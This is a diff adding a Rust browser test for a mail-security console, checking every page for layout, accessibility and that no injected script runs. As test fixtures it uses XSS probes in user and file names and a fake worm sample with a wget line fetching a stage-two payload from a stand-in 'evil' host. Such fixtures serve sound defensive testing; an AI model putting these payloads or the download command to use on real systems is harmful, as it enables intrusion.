@@ -1,0 +1,231 @@
+//! Every page of the console in a browser: a picture in the light, the dark and on a telephone, nothing that a trick could run, nothing that
+//! is wider than the screen, and no barrier that axe-core knows. A page that is added to the router and not here fails the test.
+
+use super::browser::Browser;
+use super::{Flood, INBOUND, TRICKS, accessible, album, attacks_by_mail, logged_in, nothing_ran, outbreak, plugins};
+use crate::control::gate::{Site, wait_for};
+use crate::letters::link_in;
+use std::path::Path;
+use std::process::Command;
+
+/// Notices have a link to the page of one's own.
+const LINKS: &str = "[notices]\nlink = \"https://console.example.org\"\n";
+
+/// What the router answers a browser with that is no page: streams, files, what programs ask for, and ways to another site.
+const NO_PAGES: [&str; 9] = [
+    "/live",
+    "/login/oidc",
+    "/login/oidc/callback",
+    "/style.css",
+    "/console.js",
+    "/icon.svg",
+    "/healthz",
+    "/readyz",
+    "/metrics",
+];
+
+/// Every address that can be looked at, as it stands in the router.
+fn routes() -> Vec<String> {
+    let source = include_str!("../../crates/weir-console/src/pages/mod.rs");
+    let looked_at = |rest: &str| {
+        let (path, method) = rest.trim_start().strip_prefix('"')?.split_once('"')?;
+        let method = method.trim_start_matches(|letter: char| letter == ',' || letter.is_whitespace());
+        method.starts_with("get(").then(|| path.to_owned())
+    };
+    source.split(".route(").skip(1).filter_map(looked_at).collect()
+}
+
+/// Whether the router takes this path to this route: `{x}` stands for one piece, `{*x}` for all that follow.
+fn leads(route: &str, path: &str) -> bool {
+    let path = path.split('?').next().unwrap_or_default();
+    let (mut wanted, mut given) = (route.split('/'), path.split('/'));
+    loop {
+        match (wanted.next(), given.next()) {
+            (None, None) => return true,
+            (Some(rest), Some(_)) if rest.starts_with("{*") => return true,
+            (Some(name), Some(piece)) if name.starts_with('{') && !piece.is_empty() => {}
+            (Some(name), Some(piece)) if name == piece => {}
+            _ => return false,
+        }
+    }
+}
+
+/// What was looked at, and what axe-core says of it.
+#[derive(Default)]
+struct Visited {
+    paths: Vec<String>,
+    barriers: Vec<String>,
+}
+
+impl Visited {
+    /// Looks at these pages in every way: each has a name for its pictures.
+    fn all(&mut self, browser: &Browser, console: &str, pages: &[(&str, String)]) {
+        for (name, path) in pages {
+            for (look, width, dark) in
+                [("light", 1440, false), ("dark", 1440, true), ("narrow", 390, false), ("narrow-dark", 360, true)]
+            {
+                browser.looks(width, dark);
+                browser.goto(&format!("{console}{path}"));
+                // The guide has pictures of its own.
+                if !path.starts_with("/docs/") {
+                    nothing_ran(browser);
+                }
+                let status = browser.run("return performance.getEntriesByType('navigation')[0].responseStatus");
+                assert_eq!(status, if *name == "nowhere" { 404 } else { 200 }, "{name}");
+                browser.picture(&album().join(format!("{name}-{look}.png")));
+                let wide =
+                    browser.run("return document.documentElement.scrollWidth - document.documentElement.clientWidth");
+                assert_eq!(wide, 0, "{name} is wider than {width} pixels");
+                if accessible::is_due(look) {
+                    let found = accessible::barriers(browser);
+                    self.barriers.extend(found.into_iter().map(|barrier| format!("{name}, {look}: {barrier}")));
+                }
+            }
+            self.paths.push(path.clone());
+        }
+    }
+}
+
+/// Spam to the user `demo`, as a spam filter would have had it kept: a mail in quarantine with the recipient and the reason of one. Its id.
+fn spam_to_demo(site: &Site) -> &'static str {
+    const ID: &str = "38exdmxn6hex5qydvvez";
+    let program = "
+import sqlite3, sys
+records = sqlite3.connect(sys.argv[1])
+records.execute(\"insert into quarantine (message, place, relay, queue, fate, recipient, sender, subject, source, owner, origin, size, at, reason, decided_by) \"
+                \"select ?, 0, relay, 'spam', 'held', 'demo@localhost', sender, subject, source, '', 'received', size, at, 'spam: score 20', '' \"
+                \"from quarantine where subject = 'invoice'\", (sys.argv[2],))
+records.commit()
+";
+    let mut python = Command::new("python3");
+    let ran = python.args(["-c", program]).arg(site.data().join("records.db")).arg(ID).status();
+    assert!(ran.expect("python3 is not installed: run `make setup`").success());
+    let text = format!(
+        "From: x@y.example\r\nSubject: {}\r\n\r\nthe text of the spam\r\n{}\r\n",
+        TRICKS[1],
+        TRICKS.join("\r\n")
+    );
+    std::fs::write(site.data().join(format!("quarantine/{ID}.eml")), text).expect("a mail");
+    ID
+}
+
+#[test]
+fn every_page_is_pictured_in_the_light_the_dark_and_on_a_telephone() {
+    let plugins = plugins();
+    let site = Site::new(&format!("{INBOUND}{LINKS}[lab]\nplugins = {:?}\n", plugins.path()));
+    let up = site.up_with(&["--demo"]);
+    site.weir(&["user", "set", "demo", "--contact", "contact@localhost", "--reads", "demo@localhost"]).ok();
+    let (browser, console) = logged_in(&up, "admin", &up.admin_password());
+    browser.says("Nothing needs you");
+    browser.picture(&album().join("overview-quiet-light.png"));
+    for name in ["ann@example.org", "bob@example.org", "<img/src=x/onerror=window.ran=40>"] {
+        site.weir(&["user", "add", name, "--address", "x@localhost", "--generate"]).ok();
+    }
+    outbreak(&up);
+    attacks_by_mail(&site, &up);
+    let sample = site.home().join("invoice.sh");
+    std::fs::write(&sample, "#!/bin/sh\necho hello\n").expect("a sample");
+    let worm = site.home().join("<svg onload=window.ran=50>.sh");
+    std::fs::write(&worm, "#!/bin/sh\n# a worm\nwget http://drop.evil.example/stage2\n").expect("a sample");
+    let samples = [sample.as_path(), Path::new("/bin/true"), &worm].map(|file| file.to_str().expect("text"));
+    site.weir(&[&["lab", "submit"], &samples[..]].concat()).ok();
+    wait_for("the reports", || {
+        let list = site.json(&["lab", "list"]);
+        list.as_array()?.iter().all(|sample| !sample["ended_at"].is_null()).then_some(())
+    });
+    site.weir(&["scan", "rules", "add", "--sample", "3"]).ok();
+    // The stream keeps the page current without loading it again.
+    browser.goto(&console);
+    assert!(!browser.text().contains("wait for the web servers"));
+    browser.run("window.loaded = 'once'");
+    browser.run("window.other = window.open('/web', 'other')");
+    wait_for("the page of the web gate", || {
+        let text = browser.run("return window.other.document.body ? window.other.document.body.innerText : ''");
+        text.as_str()?.contains("No session has a request now").then_some(())
+    });
+    browser.run("window.other.loaded = 'once'");
+    let flood = Flood::new(&up.listener("web"));
+    browser.says("wait for the web servers, in fair order");
+    assert_eq!(browser.run("return window.loaded"), "once");
+    // So do all pages, and no part of one says something else than another.
+    wait_for("the flood on the page that was open before it", || {
+        let text = browser.run("return window.other.document.body.innerText");
+        let text = text.as_str()?;
+        (text.contains("Sessions that ask now") && text.contains("Each session gets its share")).then_some(())
+    });
+    assert_eq!(browser.run("return window.other.loaded"), "once");
+    browser.run("window.other.close()");
+    let held = site.json(&["held", "list"]);
+    let quarantined = site.json(&["quarantine", "list"]);
+    let held = held["messages"][3]["message"].as_str().expect("an id");
+    let quarantined = quarantined["entries"][2]["message"].as_str().expect("an id");
+    site.weir(&["senders", "block", "spam.example", "--about", TRICKS[2]]).ok();
+    let mut visited = Visited::default();
+    let pages = [
+        ("overview", "/".to_owned()),
+        ("incidents", "/incidents".to_owned()),
+        ("incident", "/incidents/1".to_owned()),
+        ("throttle", "/throttle".to_owned()),
+        ("user", "/throttle/users/demo".to_owned()),
+        ("held", format!("/throttle/held/{held}")),
+        ("quarantine", "/quarantine".to_owned()),
+        ("quarantined", format!("/quarantine/{quarantined}")),
+        ("senders", "/senders".to_owned()),
+        ("feeds", "/feeds".to_owned()),
+        ("web", "/web".to_owned()),
+        ("queue", "/queue".to_owned()),
+        ("bans", "/bans".to_owned()),
+        ("lab", "/lab".to_owned()),
+        ("sample", "/lab/samples/1".to_owned()),
+        ("sample-program", "/lab/samples/2".to_owned()),
+        ("sample-malware", "/lab/samples/3".to_owned()),
+        ("rules", "/rules".to_owned()),
+        ("search", "/search?q=demo".to_owned()),
+        ("trace", format!("/trace/{held}")),
+        ("audit", "/audit".to_owned()),
+        ("settings", "/settings".to_owned()),
+        ("account", "/account".to_owned()),
+        ("guide", "/docs".to_owned()),
+        ("guide-found", "/docs?q=quarantine".to_owned()),
+        ("guide-page", "/docs/console.md".to_owned()),
+        ("nowhere", "/nowhere".to_owned()),
+    ];
+    visited.all(&browser, &console, &pages);
+    flood.stop();
+    // A user of the mail gate sees what is theirs, and nothing else.
+    let spam = spam_to_demo(&site);
+    let (own, _) = logged_in(&up, "demo", &up.password());
+    own.says("Your mail");
+    let pages = [
+        ("mine", "/me".to_owned()),
+        ("mine-spam", "/me/quarantine".to_owned()),
+        ("mine-spam-mail", format!("/me/quarantine/{spam}")),
+    ];
+    visited.all(&own, &console, &pages);
+    own.says("the text of the spam");
+    own.goto(&format!("{console}/throttle"));
+    own.says("This is not for the role user");
+    drop(own);
+    // And this is what everybody sees.
+    let stranger = Browser::start();
+    let key = link_in(&site, "contact@localhost", "was stopped at");
+    visited.all(&stranger, &console, &[("login", "/login".to_owned()), ("link", format!("/link/{key}"))]);
+    stranger.says("Look at the held mail of demo");
+    drop(stranger);
+    assert!(visited.barriers.is_empty(), "axe-core finds barriers:\n{}", visited.barriers.join("\n"));
+    let routes = routes();
+    let seen =
+        |route: &&String| NO_PAGES.contains(&route.as_str()) || visited.paths.iter().any(|path| leads(route, path));
+    let unseen: Vec<&String> = routes.iter().filter(|route| !seen(route)).collect();
+    assert!(routes.len() > 30 && unseen.is_empty(), "no browser looks at {unseen:?}: name a page of each above");
+    // Without Weir the page says so.
+    browser.looks(1280, false);
+    browser.goto(&console);
+    browser.find("#offline");
+    up.kill();
+    wait_for("the bar", || {
+        let hidden = browser.run("return document.getElementById('offline').hidden");
+        (hidden == false).then_some(())
+    });
+    browser.picture(&album().join("offline-light.png"));
+}
